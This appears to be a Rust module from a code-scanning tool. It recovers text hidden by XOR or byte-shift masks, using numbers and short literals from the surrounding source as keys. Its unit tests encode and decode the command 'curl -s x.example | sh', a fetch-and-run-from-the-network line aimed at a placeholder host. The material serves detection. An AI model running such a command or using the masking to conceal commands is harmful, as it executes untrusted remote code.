//! Bytes under a simple mask: every byte XORed with a key, or moved by a number.
//!
//! Lists of bytes and encoded runs that are no text are tried with the small numbers and short literals of the same text as
//! keys. A reading counts where all of it shows and it is made of words; the one with most letters wins.

use memchr::memchr2_iter;

/// The fewest bytes that are tried: fewer come to text by chance.
const SHORTEST: usize = 8;

/// The most keys, and the longest.
const KEYS: usize = 48;
const LONGEST_KEY: usize = 32;

/// The text that bytes come to under one of the keys.
pub(super) fn read(bytes: &[u8], keys: &[Vec<u8>]) -> Option<String> {
    if bytes.len() < SHORTEST {
        return None;
    }
    let masks: [fn(u8, u8) -> u8; 3] = [|byte, key| byte ^ key, u8::wrapping_sub, u8::wrapping_add];
    let readings = keys.iter().flat_map(|key| {
        masks.into_iter().filter_map(move |mask| {
            let read = |bytes: &[u8]| -> Vec<u8> {
                bytes.iter().zip(key.iter().cycle()).map(|(byte, key)| mask(*byte, *key)).collect()
            };
            let head = read(&bytes[..bytes.len().min(64)]);
            is_words(&head).then(|| read(bytes)).filter(|bytes| is_words(bytes))
        })
    });
    let best = readings.max_by_key(|bytes| bytes.iter().filter(|byte| byte.is_ascii_lowercase()).count())?;
    String::from_utf8(best).ok()
}

/// Printable ASCII, most of it letters, digits and blanks.
fn is_words(bytes: &[u8]) -> bool {
    let shown = |byte: &u8| byte.is_ascii_graphic() || matches!(byte, b' ' | b'\n' | b'\t' | b'\r');
    let wordy = bytes.iter().filter(|byte| byte.is_ascii_alphanumeric() || **byte == b' ').count();
    let small = bytes.iter().filter(|byte| byte.is_ascii_lowercase()).count();
    bytes.iter().all(shown) && wordy * 10 >= bytes.len() * 7 && small * 10 >= bytes.len() * 4
}

/// What a text could use as keys: its small numbers, and its short literals.
pub(super) fn keys(text: &str, singles: &[u128]) -> Vec<Vec<u8>> {
    let numbers = singles.iter().filter_map(|single| u8::try_from(*single).ok()).filter(|key| *key > 0);
    let mut keys: Vec<Vec<u8>> = numbers.map(|key| vec![key]).collect();
    let bytes = text.as_bytes();
    let mut from = 0;
    for open in memchr2_iter(b'"', b'\'', bytes) {
        if open < from || keys.len() >= KEYS {
            continue;
        }
        let inner = &bytes[open + 1..bytes.len().min(open + 2 + LONGEST_KEY)];
        if let Some(len) = inner.iter().position(|byte| *byte == bytes[open]).filter(|len| *len > 0) {
            from = open + len + 2;
            let key = inner[..len].to_vec();
            if !key.contains(&b'\n') && !keys.contains(&key) {
                keys.push(key);
            }
        }
    }
    keys
}

#[cfg(test)]
mod tests {
    use super::{keys, read};

    #[test]
    fn keys_of_the_text_are_tried() {
        let mask = |key: &[u8]| -> Vec<u8> {
            b"curl -s x.example | sh".iter().zip(key.iter().cycle()).map(|(byte, key)| byte ^ key).collect()
        };
        assert_eq!(read(&mask(&[0x5A]), &keys("k", &[1, 90])).as_deref(), Some("curl -s x.example | sh"));
        let found = read(&mask(b"s3cr"), &keys("key = b's3cr'; it's", &[]));
        assert_eq!(found.as_deref(), Some("curl -s x.example | sh"));
        assert_eq!(read(&mask(&[0x5A]), &keys("k", &[1, 2, 3])), None);
        let moved: Vec<u8> = b"curl -s x.example".iter().map(|byte| byte + 3).collect();
        assert_eq!(read(&moved, &keys("", &[3])).as_deref(), Some("curl -s x.example"));
    }
}
